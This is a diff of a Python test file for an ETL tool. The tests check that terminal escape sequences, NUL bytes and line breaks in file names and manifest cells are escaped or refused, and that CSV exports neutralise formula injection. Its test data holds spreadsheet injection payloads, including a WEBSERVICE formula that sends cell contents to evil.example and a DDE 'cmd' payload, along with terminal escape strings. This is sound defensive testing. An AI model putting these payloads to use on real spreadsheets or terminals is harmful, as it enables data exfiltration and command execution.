@@ -88,7 +88,21 @@ def test_etl_terminal_output_shows_names_escaped_on_their_own_line(run):
     assert len(failed_lines) == failed == 1, failed_lines
     assert failed_lines[0].startswith("failed: forged\\nfailed: 财政局-2022.pdf: tampered\\x1b]0;pwned\\x07\\n.pdf: ")
     assert "OWNED\\x1b]0;pwned-title\\x07财政局.pdf" in out          # the duplicate line names it, escaped
-    assert "manifest: ghost\\x1b[2J\\nfailed: ghost.pdf: tampered.pdf matches no PDF" in out
+    assert f"manifest: {ht.GHOST_NAME} matches no PDF" in out
+
+
+def test_a_manifest_with_control_characters_is_refused_with_a_clean_message(run, tmp_path):
+    """NUL, line breaks and terminal escapes in a manifest cell: exit 2 naming the line and column, and the
+    message itself carries no control character."""
+    manifest = ht.write_control_manifest(run.raw, tmp_path / "controls.csv")
+    env = {k: v for k, v in os.environ.items() if not k.startswith("JUESUAN_")}
+    proc = subprocess.run([sys.executable, "-m", "etl.cli", "etl", str(run.raw), "--out", str(tmp_path / "pq"),
+                           "--manifest", str(manifest)], capture_output=True, text=True, env=env, cwd=ROOT,
+                          timeout=600)
+    out = proc.stdout + proc.stderr
+    assert proc.returncode == 2, out[-2000:]
+    assert "control character" in out and "column 'region'" in out and ", line " in out
+    assert not TERMINAL_CONTROLS.search(out), repr(out[-500:])
 
 
 def test_audit_terminal_output_has_no_control_characters(run):
@@ -185,7 +199,7 @@ def test_csv_cells_never_start_a_formula_and_hold_no_nul(run):
     assert not starting, starting[:5]
     values = {c for _, c in cells}
     assert {"'=WEBSERVICE(\"http://evil.example/?\"&A1)", "'+1+cmd|'/Ccalc'!A0", "'@SUM(1+1)", "'-2+3"} <= values
-    assert "ab\n[2J]0;pwned" in values                       # the manifest region, its controls dropped
+    assert "'" + ht.MANIFEST_REGION in values                  # the manifest's region, a formula no more
 
 
 def test_dta_text_holds_no_control_characters(run):
@@ -193,6 +207,6 @@ def test_dta_text_holds_no_control_characters(run):
 
     df, _ = pyreadstat.read_dta(str(run.exports / "department_years.dta"))
     regions = set(df["region"])
-    assert "ab\n[2J]0;pwned" in regions                      # NUL no longer ends the text at "a"
+    assert ht.MANIFEST_REGION in regions                      # .dta keeps the text as it is
     texts = [v for c in df.columns if df[c].dtype == object for v in df[c] if isinstance(v, str)]
     assert not [v for v in texts if TERMINAL_CONTROLS.search(v)]
